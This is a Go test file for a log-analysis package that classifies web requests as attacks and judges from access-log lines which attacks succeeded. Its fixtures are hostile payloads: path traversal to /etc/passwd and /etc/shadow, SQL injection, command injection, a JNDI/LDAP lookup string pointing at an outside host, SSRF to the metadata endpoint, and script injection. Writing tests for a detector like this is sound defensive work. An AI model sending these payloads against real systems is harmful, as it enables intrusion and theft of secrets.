package attack_test

import (
	"fmt"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/quellhq/quell/internal/logql/attack"
	"github.com/quellhq/quell/internal/logql/request"
)

func TestClasses(t *testing.T) {
	t.Parallel()
	for target, class := range map[string]attack.Class{
		`/static/../../../../etc/passwd`:                          attack.Traversal,
		`/download?file=..%2f..%2f..%2fetc%2fpasswd`:              attack.Traversal,
		`/download?file=%252e%252e%252f%252e%252e%252fetc/shadow`: attack.Traversal,
		`/.env`:                                               attack.Secrets,
		`/.git/config`:                                        attack.Secrets,
		`/backup.sql.gz`:                                      attack.Secrets,
		`/products?id=1%20UNION%20SELECT%201,2`:               attack.Injection,
		`/products?id=1'%20OR%20'1'='1`:                       attack.Injection,
		`/products?id=1;select%20pg_sleep(5)`:                 attack.Injection,
		`/ping?host=127.0.0.1;cat%20/etc/passwd`:              attack.Command,
		`/?x=${jndi:ldap://203.0.113.9/a}`:                    attack.Command,
		`/hello?name={{7*7}}`:                                 attack.Command,
		`/fetch?url=http://169.254.169.254/latest/meta-data/`: attack.Inside,
		`/search?q=<script>alert(1)</script>`:                 attack.Script,
		`/wp-login.php`:                                       attack.Scan,
		// Ordinary requests.
		`/products/17?sort=price&order=asc`:          "",
		`/search?q=rock'n'roll`:                      "",
		`/search?q=select%20a%20chair%20from%20us`:   "",
		`/search?q=union%20jack`:                     "",
		`/login?next=%2Fcart%3Fa%3D1`:                "",
		`/.well-known/acme-challenge/x`:              "",
		`/config/theme`:                              "",
		`/sleep/advice`:                              "",
		`/redirect?to=https%3A%2F%2Fshop.example%2F`: "",
		`/users/o'brien`:                             "",
	} {
		require.Equal(t, class, attack.ClassOf([]byte(target)), target)
	}
}

func access(at int64, ip, target string, status, size int) request.Line {
	return request.Line{At: at, Text: fmt.Appendf(nil, `%s - - [28/Nov/2026:23:00:00 +0000] "GET %s HTTP/1.1" %d %d "-" "curl/8"`, ip, target, status, size)}
}

func TestScannersAreNoBreakIn(t *testing.T) {
	t.Parallel()
	tally := attack.NewTally(1000)
	for i := range int64(50) {
		tally.Add(access(2000+i, "198.51.100.1", fmt.Sprintf("/products/%d", i), 200, 900))
		tally.Add(access(2000+i, "203.0.113.9", "/.env", 404, 90))
		tally.Add(access(2000+i, "203.0.113.9", "/products/1?id=1'%20OR%20'1'='1", 200, 910))
	}
	r := tally.Report()
	require.Equal(t, 100, r.Hits)
	require.Equal(t, 50, r.Refused)
	require.Zero(t, r.WorkedCount)
}

func TestAPageForEverythingIsNoBreakIn(t *testing.T) {
	t.Parallel()
	tally := attack.NewTally(1000)
	for i, p := range []string{"/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/backup.sql"} {
		tally.Add(access(2000+int64(i), "203.0.113.9", p, 200, 1234))
	}
	r := tally.Report()
	require.True(t, r.CatchAll)
	require.Zero(t, r.WorkedCount)
}

func TestWhatWorked(t *testing.T) {
	t.Parallel()
	tally := attack.NewTally(1000)
	for i := range int64(20) {
		tally.Add(access(2000+i, "198.51.100.1", "/products?id=3", 200, 900))
		tally.Add(access(2000+i, "203.0.113.9", "/wp-login.php", 404, 90))
	}
	tally.Add(access(3000, "203.0.113.9", "/products?id=1%20UNION%20SELECT%20email,password%20FROM%20users", 200, 90000))
	tally.Add(access(3001, "203.0.113.9", "/static/../../../../etc/passwd", 200, 1200))
	tally.Add(request.Line{At: 3002, Fields: []request.Field{{Name: []byte("path"), Value: []byte("/products?id=1;select pg_sleep(5)")}, {Name: []byte("status_code"), Value: []byte("200")}, {Name: []byte("duration_ms"), Value: []byte("5004")}}})
	tally.Add(access(3003, "203.0.113.9", "/products?name=..%2f..%2f..%2fetc%2fpasswd", 200, 930)) // the page, as ever
	r := tally.Report()
	require.Equal(t, 3, r.WorkedCount, "%+v", r.Worked)
	require.Equal(t, "gave far more than the page usually does", r.Worked[0].Why)
	require.Equal(t, "gave a file that nobody should get", r.Worked[1].Why)
	require.Equal(t, "took as long as it asked the database to sleep", r.Worked[2].Why)
	require.Equal(t, "203.0.113.9", r.Sources[0].IP)
}

func TestAFileByItsName(t *testing.T) {
	t.Parallel()
	tally := attack.NewTally(1000)
	tally.Add(access(2000, "198.51.100.1", "/download?name=prices.txt", 200, 90))
	tally.Add(access(2001, "203.0.113.9", "/download?name=..%2f..%2fetc%2fshadow", 404, 20))
	tally.Add(access(2002, "203.0.113.9", "/download?name=..%2f..%2fetc%2fpasswd", 200, 1400))
	require.Equal(t, 1, tally.Report().WorkedCount)
}
